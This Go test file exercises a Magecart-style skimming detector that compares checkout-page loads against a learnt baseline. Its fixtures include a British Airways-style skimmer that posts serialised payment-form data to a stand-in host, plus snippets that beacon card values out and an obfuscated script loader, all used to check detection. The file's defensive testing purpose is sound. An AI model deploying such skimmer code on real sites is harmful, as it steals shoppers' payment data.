package baseline

import (
	"fmt"
	"net/http"
	"strings"
	"testing"
	"time"

	skimguard "github.com/skimguard/skimguard"
)

// TestCompareQuietOnUnchangedPage covers THREATS.md's "what must not raise
// an alert": each row varies one thing the way real loads do; the baseline
// is learnt from three loads and later loads must give zero findings.
func TestCompareQuietOnUnchangedPage(t *testing.T) {
	tests := []struct {
		name string
		// vary changes load n of the clean page; shop() already varies
		// nonces, tokens, timestamps, cart ids, GTM stamps, cache busters
		// and provider session ids on every load.
		vary func(o *skimguard.Observation, load int)
		// samples is how many loads the baseline is learnt from.
		samples int
	}{
		{"nonce in CSP header and in inline script", func(o *skimguard.Observation, n int) {}, 1},
		{"CSRF token, timestamp and cart id in inline config", func(o *skimguard.Observation, n int) {}, 1},
		{"tag manager container with build stamp and per-load id", func(o *skimguard.Observation, n int) {}, 1},
		{"cache-busting query strings", func(o *skimguard.Observation, n int) {
			s := scriptByURL(o, "https://cdn.good.test/")
			s.URL += fmt.Sprintf("?v=%s&_=%d", rnd(n, "v", 7), ts(n))
			g := scriptByURL(o, "https://www.googletagmanager.com/")
			g.URL += fmt.Sprintf("&cb=%d&l=dataLayer", ts(n))
		}, 1},
		{"query parameter learnt to vary between samples", func(o *skimguard.Observation, n int) {
			s := scriptByURL(o, "https://cdn.good.test/")
			s.URL += fmt.Sprintf("?k=%d", n) // "k=1" looks stable: only the samples tell
		}, 3},
		{"iframe src with per-load session id in query, fragment and path", func(o *skimguard.Observation, n int) {
			// shop() already varies the query and fragment; move the
			// session into the path as some providers do.
			old := o.Frames[0].URL
			nu := strings.Replace(old, "/v3/", "/v3/s/"+rnd(n, "uuid", 8)+"-"+rnd(n, "u2", 4)+"-4"+rnd(n, "u3", 3)+"-a"+rnd(n, "u4", 3)+"-"+rnd(n, "u5", 12)+"/", 1)
			o.Frames[0].URL = nu
			for i := range o.Scripts {
				if o.Scripts[i].Frame == old {
					o.Scripts[i].Frame = nu
				}
			}
			for i := range o.Forms {
				if o.Forms[i].Frame == old {
					o.Forms[i].Frame = nu
				}
			}
		}, 1},
		{"build stamp in a script path", func(o *skimguard.Observation, n int) {
			s := scriptByURL(o, "https://shop.test/static/")
			s.URL = fmt.Sprintf("https://shop.test/static/version%d/js/modernizr.js", ts(n))
		}, 1},
		{"A/B test serving one of two known scripts", func(o *skimguard.Observation, n int) {
			variant := []string{"a", "b"}[n%2]
			s := script(skimguard.ScriptExternal, "https://shop.test/static/js/ab-"+variant+".js", o.FinalURL,
				fmt.Sprintf(`window.abVariant=%q;document.body.classList.add("ab-%s");`, variant, variant))
			o.Scripts = append(o.Scripts, s)
			inl := script(skimguard.ScriptInline, "", o.FinalURL, fmt.Sprintf(`var banner = document.getElementById(%q); banner.hidden = %v;`, "promo-"+variant, n%2 == 0))
			if n%2 == 0 {
				inl = script(skimguard.ScriptInline, "", o.FinalURL, `showPromo({style: "wide", close: true})`)
			}
			o.Scripts = append(o.Scripts, inl)
			numberOrdinals(o)
		}, 3},
		{"A/B test between two payment iframes", func(o *skimguard.Observation, n int) {
			if n%2 == 0 {
				o.Frames[0].URL = "https://pay.other-provider.test/embed/card.html"
				o.Frames[0].Origin = "https://pay.other-provider.test"
			}
		}, 2},
		{"lazily loaded widget absent on some loads", func(o *skimguard.Observation, n int) {
			if n%3 == 1 {
				o.Scripts = append(o.Scripts, script(skimguard.ScriptExternal, "https://chat.widget.test/loader.js", o.FinalURL, `window.chat={open:function(){}}`))
				o.Connections = append(o.Connections, skimguard.Connection{Origin: "https://chat.widget.test", Types: []string{"Script"}, Count: 1})
			}
		}, 3},
		{"inline scripts change order", func(o *skimguard.Observation, n int) {
			if n%2 == 0 {
				o.Scripts[2], o.Scripts[3] = o.Scripts[3], o.Scripts[2]
				numberOrdinals(o)
			}
		}, 1},
		{"script loaded by another loader", func(o *skimguard.Observation, n int) {
			if n%2 == 0 {
				scriptByURL(o, "https://www.googletagmanager.com/").LoadedBy = "parser"
			}
		}, 1},
		{"Set-Cookie, Date, X-Request-Id and other headers", func(o *skimguard.Observation, n int) {
			o.Headers["set-cookie"] = "PHPSESSID=" + token(n, "sess") + "; path=/; HttpOnly"
			o.Headers["date"] = at.Add(time.Duration(n) * time.Hour).Format(http.TimeFormat)
			o.Headers["X-Request-Id"] = rnd(n, "reqid", 32)
			o.Headers["Content-Security-Policy"] = o.Headers["content-security-policy"]
			delete(o.Headers, "content-security-policy")
		}, 1},
		{"CSP directives reordered and re-spaced", func(o *skimguard.Observation, n int) {
			if n%2 == 0 {
				parts := strings.Split(o.Headers["content-security-policy"], ";")
				for i, j := 0, len(parts)-1; i < j; i, j = i+1, j-1 {
					parts[i], parts[j] = parts[j], parts[i]
				}
				o.Headers["content-security-policy"] = strings.Join(parts, " ;  ")
			}
		}, 1},
		{"card data typed into the provider's iframe and sent to the provider", func(o *skimguard.Observation, n int) {
			o.Leaks = append(o.Leaks, skimguard.Leak{Origin: "https://pay.provider.test", URL: "https://pay.provider.test/v3/3ds", Type: "XHR", Method: "POST", Fields: []skimguard.CardField{skimguard.FieldNumber}, Encoding: "base64", Where: "body"})
		}, 1},
		{"JSONP callback with per-load name in run-time code", func(o *skimguard.Observation, n int) {
			o.Scripts = append(o.Scripts, script(skimguard.ScriptDynamic, "", o.FinalURL,
				fmt.Sprintf(`jQuery37109%d_%d({"ok":true,"rates":[1.5]})`, 100000+n, ts(n)*1000)))
			numberOrdinals(o)
		}, 1},
		{"main document URL with a session query and fragment", func(o *skimguard.Observation, n int) {
			o.FinalURL = "https://shop.test/checkout?SID=" + token(n, "sid") + "#step-" + fmt.Sprint(n)
			for i := range o.Scripts {
				if !strings.Contains(o.Scripts[i].Frame, "pay.provider") {
					o.Scripts[i].Frame = o.FinalURL
				}
			}
			o.Frames[0].Parent = o.FinalURL
			o.Forms[0].Frame = o.FinalURL
		}, 1},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			load := func(n int) *skimguard.Observation {
				o := shop(n)
				tt.vary(o, n)
				return o
			}
			var samples []*skimguard.Observation
			for n := 1; n <= tt.samples; n++ {
				samples = append(samples, load(n))
			}
			b := learn(t, samples...)
			for n := 10; n < 16; n++ {
				if fs := Compare(b, load(n)); len(fs) != 0 {
					t.Fatalf("load %d of an unchanged page gave %d findings:%s", n, len(fs), describe(fs))
				}
			}
		})
	}
}

// change is one technique from THREATS.md applied to a clean load.
type change struct {
	name     string
	apply    func(o *skimguard.Observation)
	kind     skimguard.Kind
	severity skimguard.Severity
	subject  string // substring of the finding's subject
	detail   string // substring of the finding's detail
}

const baPayload = `
window.onload = function() {
  jQuery("#submitButton").bind("mouseup touchend", function(a) {
    var n = {};
    jQuery("#paymentForm").serializeArray().map(function(a) { n[a.name] = a.value; });
    var e = document.getElementById("personPaying").innerHTML;
    n.person = e;
    var t = JSON.stringify(n);
    setTimeout(function() {
      jQuery.ajax({ type: "POST", async: !0, url: "https://baways.test/gateway/app/dataprocessing/api", data: t, dataType: "application/json" });
    }, 500);
  });
};`

var changes = []change{
	{
		name: "code appended to a first-party file (British Airways)",
		apply: func(o *skimguard.Observation) {
			setSource(scriptByURL(o, "https://shop.test/static/"), modernizr+baPayload)
		},
		kind: skimguard.KindScriptChanged, severity: skimguard.SeverityCritical,
		subject: "https://shop.test/static/js/modernizr.js", detail: "new to this page: https://baways.test",
	},
	{
		name: "compromised third-party script without a new host",
		apply: func(o *skimguard.Observation) {
			s := scriptByURL(o, "https://cdn.good.test/")
			setSource(s, s.Source+`;document.addEventListener("change",function(e){new Image().src="/s?"+btoa(e.target.value)})`)
		},
		kind: skimguard.KindScriptChanged, severity: skimguard.SeverityHigh,
		subject: "https://cdn.good.test/jquery-3.7.1.min.js", detail: "tokens added",
	},
	{
		name: "new inline script",
		apply: func(o *skimguard.Observation) {
			o.Scripts = append(o.Scripts, script(skimguard.ScriptInline, "", o.FinalURL, `document.querySelector("#co-payment-form").addEventListener("submit", function(){ localStorage.setItem("x", document.forms[0].innerHTML) })`))
			numberOrdinals(o)
		},
		kind: skimguard.KindScriptAdded, severity: skimguard.SeverityHigh,
		subject: "inline #3", detail: "inserted by the HTML parser",
	},
	{
		name: "new external script from a lookalike domain",
		apply: func(o *skimguard.Observation) {
			s := script(skimguard.ScriptExternal, "https://jquery-cdn.pw/jquery.min.js?v=3", o.FinalURL, `(function(){var u="https://jquery-cdn.pw/gate";})()`)
			s.LoadedBy = "https://www.googletagmanager.com/gtm.js?id=GTM-ABC12"
			o.Scripts = append(o.Scripts, s)
		},
		kind: skimguard.KindScriptAdded, severity: skimguard.SeverityCritical,
		subject: "https://jquery-cdn.pw/jquery.min.js", detail: "its origin https://jquery-cdn.pw is new to this page",
	},
	{
		name: "code compiled by eval",
		apply: func(o *skimguard.Observation) {
			s := script(skimguard.ScriptDynamic, "", o.FinalURL, `var d=document;d.getElementById("cc").onblur=function(){navigator.sendBeacon("https://g00gle-analytics.test/c",d.forms[0].cc.value)}`)
			s.LoadedBy, s.Location = "https://shop.test/static/js/modernizr.js", "eval from https://shop.test/static/js/modernizr.js:1"
			o.Scripts = append(o.Scripts, s)
			numberOrdinals(o)
		},
		kind: skimguard.KindScriptAdded, severity: skimguard.SeverityCritical,
		subject: "dynamic #2", detail: "compiled at run time by https://shop.test/static/js/modernizr.js",
	},
	{
		name: "SVG onload handler",
		apply: func(o *skimguard.Observation) {
			s := script(skimguard.ScriptHandler, "", o.FinalURL, `var s=document.createElement("script");s.src=atob("Ly9zdmcuc2tpbS50ZXN0L2EuanM=");document.body.appendChild(s)`)
			s.Location = "svg#logo[onload]"
			o.Scripts = append(o.Scripts, s)
			numberOrdinals(o)
		},
		kind: skimguard.KindScriptAdded, severity: skimguard.SeverityHigh,
		subject: "handler #2 (svg#logo[onload])", detail: "inline event handler",
	},
	{
		name:  "form action pointed at another host",
		apply: func(o *skimguard.Observation) { o.Forms[0].Action = "https://shop-payments.test/collect.php" },
		kind:  skimguard.KindFormChanged, severity: skimguard.SeverityCritical,
		subject: "https://shop-payments.test/collect.php", detail: "now posts to https://shop-payments.test",
	},
	{
		name: "provider iframe replaced by a lookalike",
		apply: func(o *skimguard.Observation) {
			o.Frames[0].URL = "https://pay-provider.test/v3/card-fields.html?session=1"
			o.Frames[0].Origin = "https://pay-provider.test"
		},
		kind: skimguard.KindFrameChanged, severity: skimguard.SeverityCritical,
		subject: "https://pay-provider.test/", detail: "origin changed from https://pay.provider.test to https://pay-provider.test",
	},
	{
		name:  "provider iframe hidden",
		apply: func(o *skimguard.Observation) { o.Frames[0].Hidden = true },
		kind:  skimguard.KindFrameChanged, severity: skimguard.SeverityHigh,
		subject: "https://pay.provider.test/", detail: "now hidden",
	},
	{
		name: "new iframe",
		apply: func(o *skimguard.Observation) {
			o.Frames = append(o.Frames, skimguard.Frame{URL: "https://track.evil.test/p.html", Origin: "https://track.evil.test", Parent: o.FinalURL, Hidden: true})
		},
		kind: skimguard.KindFrameAdded, severity: skimguard.SeverityHigh,
		subject: "https://track.evil.test/p.html", detail: "hidden",
	},
	{
		name: "fake card form in the top document",
		apply: func(o *skimguard.Observation) {
			o.Forms = append(o.Forms, skimguard.Form{Frame: o.FinalURL, Formless: true, Inputs: []skimguard.Input{
				{Field: skimguard.FieldNumber, Name: "cc_number", Visible: true}, {Field: skimguard.FieldCVC, Name: "cc_cid", Visible: true},
			}})
		},
		kind: skimguard.KindFormAdded, severity: skimguard.SeverityCritical,
		subject: "formless inputs in top", detail: "in the top document",
	},
	{
		name: "new beacon origin",
		apply: func(o *skimguard.Observation) {
			o.Connections = append(o.Connections, skimguard.Connection{Origin: "https://stats-collector.test", Types: []string{"Ping"}, Initiators: []string{"https://shop.test/static/js/modernizr.js"}, Example: "https://stats-collector.test/b", Count: 1})
		},
		kind: skimguard.KindConnectionAdded, severity: skimguard.SeverityMedium,
		subject: "https://stats-collector.test", detail: "never contacted",
	},
	{
		name: "new destination after the card was typed",
		apply: func(o *skimguard.Observation) {
			o.Connections = append(o.Connections, skimguard.Connection{Origin: "wss://ws.evil.test", Types: []string{"WebSocket"}, Example: "wss://ws.evil.test/s", Count: 3, AfterTyping: true})
		},
		kind: skimguard.KindConnectionAdded, severity: skimguard.SeverityHigh,
		subject: "wss://ws.evil.test", detail: "after the test card was typed",
	},
	{
		name:  "CSP removed",
		apply: func(o *skimguard.Observation) { delete(o.Headers, "content-security-policy") },
		kind:  skimguard.KindHeaderRemoved, severity: skimguard.SeverityHigh,
		subject: "content-security-policy", detail: "no longer sends it",
	},
	{
		name: "CSP weakened",
		apply: func(o *skimguard.Observation) {
			o.Headers["content-security-policy"] = strings.Replace(o.Headers["content-security-policy"], "connect-src 'self'", "connect-src 'self' https://evil.test", 1)
		},
		kind: skimguard.KindHeaderChanged, severity: skimguard.SeverityHigh,
		subject: "content-security-policy", detail: "connect-src now allows https://evil.test",
	},
	{
		name:  "security header added",
		apply: func(o *skimguard.Observation) { o.Headers["referrer-policy"] = "strict-origin" },
		kind:  skimguard.KindHeaderAdded, severity: skimguard.SeverityLow,
		subject: "referrer-policy", detail: "now sends",
	},
	{
		name:  "integrity attribute dropped",
		apply: func(o *skimguard.Observation) { scriptByURL(o, "https://cdn.good.test/").Integrity = "" },
		kind:  skimguard.KindScriptAttributesChanged, severity: skimguard.SeverityMedium,
		subject: "https://cdn.good.test/jquery-3.7.1.min.js", detail: "integrity attribute was removed",
	},
	{
		name: "redirect to a fake payment page",
		apply: func(o *skimguard.Observation) {
			o.Redirects = append(o.Redirects, o.FinalURL)
			o.FinalURL = "https://secure-shop-pay.test/retry.php"
		},
		kind: skimguard.KindPageRedirected, severity: skimguard.SeverityCritical,
		subject: "https://secure-shop-pay.test/retry.php", detail: "origin changed to https://secure-shop-pay.test",
	},
	{
		name: "card data sent to a new origin",
		apply: func(o *skimguard.Observation) {
			o.Leaks = append(o.Leaks, skimguard.Leak{Origin: "https://cdn-analytics.test", URL: "https://cdn-analytics.test/img.jpg?d=****", Method: "GET", Type: "Image",
				Initiator: "https://shop.test/static/js/modernizr.js", Fields: []skimguard.CardField{skimguard.FieldNumber, skimguard.FieldCVC}, Encoding: "base64-reversed", Where: "url"})
		},
		kind: skimguard.KindDataExfiltration, severity: skimguard.SeverityCritical,
		subject: "https://cdn-analytics.test", detail: "only https://pay.provider.test receive card data",
	},
	{
		name: "inline loader's URL literal swapped",
		apply: func(o *skimguard.Observation) {
			o.Scripts[2].Source = strings.Replace(o.Scripts[2].Source, "https://pay.provider.test/v3/", "https://pay.provider-cdn.test/v3/", 1)
			setSource(&o.Scripts[2], o.Scripts[2].Source)
		},
		kind: skimguard.KindScriptChanged, severity: skimguard.SeverityCritical,
		subject: "inline #1", detail: "now names https://pay.provider-cdn.test",
	},
	{
		name: "approved inline script edited in place",
		apply: func(o *skimguard.Observation) {
			setSource(&o.Scripts[3], o.Scripts[3].Source+` document.forms[0].onsubmit = function(){ window.name = document.forms[0].cc.value };`)
		},
		kind: skimguard.KindScriptChanged, severity: skimguard.SeverityHigh,
		subject: "inline #2", detail: "compared with approved inline #2",
	},
	{
		name: "script removed",
		apply: func(o *skimguard.Observation) {
			o.Scripts = append(o.Scripts[:1], o.Scripts[2:]...)
		},
		kind: skimguard.KindScriptRemoved, severity: skimguard.SeverityLow,
		subject: "https://cdn.good.test/jquery-3.7.1.min.js", detail: "did not run",
	},
	{
		name:  "provider iframe removed",
		apply: func(o *skimguard.Observation) { o.Frames = nil },
		kind:  skimguard.KindFrameRemoved, severity: skimguard.SeverityMedium,
		subject: "https://pay.provider.test/", detail: "held the baseline's card fields",
	},
}

// TestCompareFindsEachTechnique applies each technique to a later load and
// checks the finding it must give: kind, severity, subject and why.
func TestCompareFindsEachTechnique(t *testing.T) {
	b := learn(t, shop(1), shop(2), shop(3))
	for _, c := range changes {
		t.Run(c.name, func(t *testing.T) {
			o := shop(7)
			c.apply(o)
			fs := Compare(b, o)
			var hit *skimguard.Finding
			for i := range fs {
				if fs[i].Kind == c.kind {
					hit = &fs[i]
					break
				}
			}
			if hit == nil {
				t.Fatalf("no %s finding; got:%s", c.kind, describe(fs))
			}
			if hit.Severity != c.severity {
				t.Errorf("severity %s, want %s:%s", hit.Severity, c.severity, describe(fs))
			}
			if !strings.Contains(hit.Subject, c.subject) {
				t.Errorf("subject %q does not name %q", hit.Subject, c.subject)
			}
			if !strings.Contains(hit.Detail, c.detail) {
				t.Errorf("detail %q does not say %q", hit.Detail, c.detail)
			}
			if hit.Status != skimguard.StatusOpen || hit.ID != 0 || hit.Fingerprint == "" || hit.Site != "shop" || hit.Page != "checkout" {
				t.Errorf("finding not open/unsaved/fingerprinted for shop/checkout: %+v", hit)
			}
			if hit.Item.Key == "" || hit.Item.Type == "" {
				t.Errorf("finding carries no item to approve: %+v", hit.Item)
			}
			if hit.Kind == skimguard.KindScriptChanged && (hit.Evidence.BeforeSource == "" || hit.Evidence.AfterSource == "" || hit.Evidence.BeforeSource == hit.Evidence.AfterSource) {
				t.Errorf("script.changed must keep both texts for a diff; before %d bytes, after %d bytes", len(hit.Evidence.BeforeSource), len(hit.Evidence.AfterSource))
			}
			for i := 1; i < len(fs); i++ {
				if fs[i].Severity.Rank() > fs[i-1].Severity.Rank() {
					t.Errorf("findings not most severe first:%s", describe(fs))
				}
			}
		})
	}
}

func TestCompareFingerprintsTheChangeNotTheLoad(t *testing.T) {
	b := learn(t, shop(1), shop(2))
	appended := func(n int, code string) *skimguard.Observation {
		o := shop(n)
		setSource(&o.Scripts[2], o.Scripts[2].Source+code)
		return o
	}
	only := func(fs []skimguard.Finding) skimguard.Finding {
		t.Helper()
		if len(fs) != 1 {
			t.Fatalf("want one finding, got:%s", describe(fs))
		}
		return fs[0]
	}
	a := only(Compare(b, appended(5, `;leak(document.forms[0])`)))
	again := only(Compare(b, appended(6, `;leak(document.forms[0])`)))
	other := only(Compare(b, appended(5, `;leak(document.forms[1], "x")`)))

	t.Run("same change on another load keeps its fingerprint", func(t *testing.T) {
		if a.Fingerprint != again.Fingerprint {
			t.Errorf("fingerprints differ across loads: %s vs %s", a.Fingerprint, again.Fingerprint)
		}
		if a.Evidence.After == again.Evidence.After {
			t.Errorf("test is vacuous: both loads had the same hash")
		}
	})
	t.Run("different change to the same script is a new finding", func(t *testing.T) {
		if a.Fingerprint == other.Fingerprint {
			t.Errorf("two different changes share fingerprint %s", a.Fingerprint)
		}
	})
}

func TestCompareSeverityOfNewScriptDependsOnOrigin(t *testing.T) {
	b := learn(t, shop(1))
	o := shop(2)
	o.Scripts = append(o.Scripts, script(skimguard.ScriptExternal, "https://cdn.good.test/extra.js", o.FinalURL, `x()`))
	fs := Compare(b, o)
	if len(fs) != 1 || fs[0].Kind != skimguard.KindScriptAdded || fs[0].Severity != skimguard.SeverityHigh {
		t.Fatalf("a new script from an approved origin must be one high script.added; got:%s", describe(fs))
	}
	if !strings.Contains(fs[0].Detail, "already used by the page") {
		t.Errorf("detail does not say the origin is known: %s", fs[0].Detail)
	}
}

func TestCompareMatchesMovedInlineScriptByContent(t *testing.T) {
	b := learn(t, shop(1))
	o := shop(2)
	// A new inline script first: every approved one shifts by one place.
	o.Scripts = append([]skimguard.Script{script(skimguard.ScriptInline, "", o.FinalURL, `evil()`)}, o.Scripts...)
	numberOrdinals(o)
	fs := Compare(b, o)
	if len(fs) != 1 || fs[0].Kind != skimguard.KindScriptAdded || !strings.HasPrefix(fs[0].Subject, "inline #1") {
		t.Fatalf("want only the new inline #1 added; got:%s", describe(fs))
	}
}

func TestCompareOptionalItemsDoNotPairWithNewScripts(t *testing.T) {
	with := shop(1)
	with.Scripts = append(with.Scripts, script(skimguard.ScriptInline, "", with.FinalURL, `showPromo()`))
	numberOrdinals(with)
	b := learn(t, with, shop(2))
	o := shop(3)
	o.Scripts = append(o.Scripts, script(skimguard.ScriptInline, "", o.FinalURL, `steal()`))
	numberOrdinals(o)
	fs := Compare(b, o)
	if len(fs) != 1 || fs[0].Kind != skimguard.KindScriptAdded {
		t.Fatalf("an injected script where an A/B variant was must be script.added; got:%s", describe(fs))
	}
}

func TestCompareNilInputs(t *testing.T) {
	if fs := Compare(nil, shop(1)); fs != nil {
		t.Errorf("nil baseline gave %v", fs)
	}
	if fs := Compare(learn(t, shop(1)), nil); fs != nil {
		t.Errorf("nil observation gave %v", fs)
	}
}

func TestLearnRejectsBadSamples(t *testing.T) {
	if _, err := Learn(nil, "a", "r", at); err == nil {
		t.Error("no samples: want an error")
	}
	other := shop(2)
	other.Page = "cart"
	if _, err := Learn([]*skimguard.Observation{shop(1), other}, "a", "r", at); err == nil {
		t.Error("samples of two pages: want an error")
	}
	if _, err := Learn([]*skimguard.Observation{shop(1), nil}, "a", "r", at); err == nil {
		t.Error("nil sample: want an error")
	}
}

func TestLearnRecordsApprovalAndVariation(t *testing.T) {
	b := learn(t, shop(1), shop(2), shop(3))
	if b.Site != "shop" || b.Page != "checkout" || b.Samples != 3 || b.ApprovedBy != "alice" || !b.CreatedAt.Equal(at) || b.ID != 0 || b.Version != 0 {
		t.Errorf("baseline header wrong: %+v", b)
	}
	types := map[skimguard.ItemType]int{}
	for _, it := range b.Items {
		types[it.Type]++
		if it.ApprovedBy != "alice" || it.Reason == "" || !it.ApprovedAt.Equal(at) || !it.FirstSeen.Equal(at) {
			t.Errorf("item %s not stamped: %+v", it.Key, it)
		}
		if it.Optional {
			t.Errorf("item %s seen in every sample is optional", it.Key)
		}
		for i := 1; i < len(it.Values); i++ {
			if it.Values[i-1] >= it.Values[i] {
				t.Errorf("item %s values not sorted and unique: %v", it.Key, it.Values)
			}
		}
	}
	want := map[skimguard.ItemType]int{
		skimguard.ItemScript: 8, skimguard.ItemFrame: 1, skimguard.ItemForm: 2, skimguard.ItemConnection: 5,
		skimguard.ItemHeader: 4, skimguard.ItemRedirect: 1, skimguard.ItemCardSink: 1,
	}
	for ty, n := range want {
		if types[ty] != n {
			t.Errorf("%d %s items, want %d", types[ty], ty, n)
		}
	}
	for _, it := range b.Items {
		if it.Type == skimguard.ItemScript && strings.Contains(it.Key, "modernizr") {
			if it.Key != "external https://shop.test/static/js/modernizr.js in top" {
				t.Errorf("cache buster kept in key %q", it.Key)
			}
			if it.Source == "" || it.SHA256 == "" || !strings.HasPrefix(it.SRI, "sha384-") {
				t.Errorf("script item lacks source/hash/SRI: %+v", it)
			}
		}
		if it.Type == skimguard.ItemHeader && it.Key == "content-security-policy" {
			if len(it.Values) != 1 || !strings.Contains(it.Values[0], "'nonce-*'") {
				t.Errorf("CSP not normalised to one value: %q", it.Values)
			}
		}
	}
}

// A script too large for the crawler to fetch comes with a note for its
// source: its approved item must not carry an SRI computed from that note.
func TestLearnGivesNoSRIForAScriptThatWasNotFetched(t *testing.T) {
	loads := make([]*skimguard.Observation, 2)
	for i := range loads {
		o := shop(i)
		big := script(skimguard.ScriptExternal, "https://shop.test/static/huge.js", "https://shop.test/checkout", "")
		big.Source = "// not fetched: 12000000 bytes, over the crawler's limit\nsize_12000000_sha256_ab12"
		big.SHA256, big.SRI, big.Size = strings.Repeat("ab", 32), "", 12000000
		o.Scripts = append(o.Scripts, big)
		loads[i] = o
	}
	b := learn(t, loads...)
	for _, it := range b.Items {
		if strings.HasSuffix(it.Key, "huge.js in top") || strings.Contains(it.Subject, "huge.js") {
			if it.SRI != "" {
				t.Fatalf("the unfetched script's item has SRI %s, computed from the crawler's note", it.SRI)
			}
			return
		}
	}
	t.Fatal("the unfetched script is not in the baseline")
}
